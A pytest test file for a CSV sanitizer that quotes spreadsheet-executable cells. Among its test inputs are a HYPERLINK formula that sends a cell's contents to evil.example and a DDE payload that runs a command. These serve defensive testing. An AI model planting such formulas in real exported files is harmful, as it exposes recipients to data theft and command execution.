"""The one CSV rule: text a spreadsheet would run is quoted, numbers stay numbers."""

import io
from decimal import Decimal

import pytest

from corridor import csvsafe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "+31 20 123 4567",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "==1+1",
        "-3",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_quote_first(text):
    assert csvsafe.safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Almere", "", " =1+1", "'=al gequote", "1-2", "2025-01-01", "http://x.nl/?a=-1"]
)
def test_other_text_is_left_alone(value):
    assert csvsafe.safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-1.50"), 0, True, None])
def test_numbers_and_other_non_text_are_left_alone(value):
    assert csvsafe.safe_cell(value) is value


def test_writer_quotes_each_cell_and_keeps_csv_quoting():
    buffer = io.StringIO(newline="")
    writer = csvsafe.writer(buffer)
    writer.writerows([["=1+1", -4, 'a "b", c'], ["@x", 2.5, "\r=2"]])
    assert buffer.getvalue() == '\'=1+1,-4,"a ""b"", c"\r\n\'@x,2.5,"\'\r=2"\r\n'


@pytest.mark.parametrize("value", ["=1+1", "-Almere", "\r=2", "Almere", "'quoted", "", -3, None])
def test_unquote_gives_back_what_safe_cell_quoted(value):
    assert csvsafe.unquote_cell(csvsafe.safe_cell(value)) == value
